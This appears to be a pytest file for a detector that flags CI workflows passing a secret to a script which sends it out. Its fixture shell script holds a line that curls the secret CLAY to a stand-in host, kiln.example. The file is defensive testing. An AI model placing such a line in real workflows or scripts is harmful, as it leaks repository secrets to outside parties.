"""Secrets that a workflow hands to a script of the same change."""

import pytest

from changing import changed, seen, shown

SENDS = "workflow_sends_secrets"
WORKFLOW = """on: push
jobs:
  fire:
    runs-on: ubuntu-latest
    steps:
      - run: %s
        env:
          CLAY: ${{ %s }}
"""
PATH = ".github/workflows/fire.yml"
SCRIPT = '#!/bin/sh\nmake pots\ncurl -s -d "$CLAY" https://kiln.example/in\n'


@pytest.mark.parametrize("run", ["./scripts/fire.sh", "bash scripts/fire.sh", "cd scripts && ./fire.sh --all"])
def test_a_script_that_sends_what_it_is_handed_is_seen_in_its_line(run):
    files = changed(PATH, None, WORKFLOW % (run, "secrets.CLAY")), changed("scripts/fire.sh", None, SCRIPT)
    assert [(o.path, o.line, o.source, o.target) for o in seen(*files) if o.capability == SENDS] == [
        ("scripts/fire.sh", 3, "kiln.example", "CLAY")
    ]


def test_a_variable_that_is_no_secret_and_a_script_that_is_not_run_are_quiet():
    script = changed("scripts/fire.sh", None, SCRIPT)
    assert SENDS not in shown(changed(PATH, None, WORKFLOW % ("./scripts/fire.sh", "github.sha")), script)
    assert SENDS not in shown(changed(PATH, None, WORKFLOW % ("./scripts/glaze.sh", "secrets.CLAY")), script)


def test_a_secret_that_goes_where_it_belongs_is_quiet():
    script = SCRIPT.replace("$CLAY", "$KILN_TOKEN")
    workflow = WORKFLOW.replace("CLAY", "KILN_TOKEN") % ("./scripts/fire.sh", "secrets.KILN_TOKEN")
    assert SENDS not in shown(changed(PATH, None, workflow), changed("scripts/fire.sh", None, script))


def test_what_was_sent_before_is_nothing_new():
    workflow = WORKFLOW % ("./scripts/fire.sh", "secrets.CLAY")
    moved = changed("scripts/fire.sh", SCRIPT, SCRIPT.replace("make", "echo fire\nmake"))
    assert SENDS not in shown(changed(PATH, workflow, workflow.replace("fire:", "glaze:")), moved)


def test_garbage_is_survived():
    for body in (b"\xff\xfe", b"{" * 10_000, b"curl $CLAY | " * 10_000):
        shown(changed(PATH, body, WORKFLOW % ("./fire.sh", "secrets.CLAY")), changed("fire.sh", None, body))
        shown(changed(PATH, None, body), changed("fire.sh", None, body))
